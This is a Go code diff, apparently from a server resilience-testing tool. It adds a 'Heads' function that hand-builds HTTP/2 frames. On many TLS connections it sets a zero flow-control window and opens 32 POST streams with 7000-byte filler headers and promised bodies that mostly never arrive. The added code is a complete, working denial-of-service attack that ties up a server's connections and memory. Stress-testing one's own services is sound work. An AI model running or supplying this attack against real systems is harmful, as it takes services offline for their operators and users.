@@ -7,6 +7,7 @@ import (
 	"cmp"
 	"context"
 	"crypto/tls"
+	"encoding/binary"
 	"fmt"
 	"io"
 	"net"
@@ -190,6 +191,73 @@ func streams(connections, each int, more http.Header) func(context.Context, Targ
 		}
 		return nil
 	}
+}
+
+// Heads are so many connections of HTTP/2 that each begin 32 requests, of which three in four have a body that does not come, and one an answer
+// that finds no window to be sent in.
+func Heads(n int) Attack {
+	return Attack{fmt.Sprintf("%d connections with 32 heads", n), true, func(ctx context.Context, a Target) error {
+		config := a.TLS.Clone()
+		config.NextProtos = []string{"h2"}
+		for c := range n {
+			text := frame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), settings, 0, 0, []byte{0, 4, 0, 0, 0, 0}) // no window
+			for i := range 32 {
+				r, err := a.head(3*(c+i)+2, http.Header{"X-Filling": {strings.Repeat("x", 7000)}, "Content-Length": {"1000"}})
+				if err != nil {
+					return err
+				}
+				var head []byte
+				for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", "/invitations"}, {":authority", r.Host}} {
+					head = field(head, f[0], f[1])
+				}
+				for name := range r.Header {
+					head = field(head, strings.ToLower(name), r.Header.Get(name))
+				}
+				flags := byte(endHeaders)
+				if i%4 == 3 {
+					flags |= endStream
+				}
+				text = frame(text, headers, flags, 2*i+1, head)
+			}
+			conn, err := (&tls.Dialer{Config: config}).DialContext(ctx, "tcp", a.Address)
+			if err != nil {
+				continue // the node takes no more
+			}
+			context.AfterFunc(ctx, func() { conn.Close() })
+			go func() { _, _ = io.Copy(io.Discard, conn) }()
+			_ = conn.SetWriteDeadline(time.Now().Add(5 * time.Second))
+			_, _ = conn.Write(text)
+		}
+		return nil
+	}}
+}
+
+// Of the frames of HTTP/2.
+const (
+	headers, settings     = 1, 4
+	endStream, endHeaders = 1, 4
+)
+
+func frame(b []byte, kind, flags byte, stream int, payload []byte) []byte {
+	n := len(payload)
+	b = append(b, byte(n>>16), byte(n>>8), byte(n), kind, flags)
+	b = binary.BigEndian.AppendUint32(b, uint32(stream))
+	return append(b, payload...)
+}
+
+// field is a header of HTTP/2 that is in no table and not compressed.
+func field(b []byte, name, value string) []byte {
+	b = append(b, 0)
+	for _, s := range []string{name, value} {
+		n := len(s)
+		if n < 127 {
+			b = append(b, byte(n))
+		} else {
+			b = binary.AppendUvarint(append(b, 127), uint64(n-127))
+		}
+		b = append(b, s...)
+	}
+	return b
 }
 
 // Latencies are how long calls of somebody honest take.
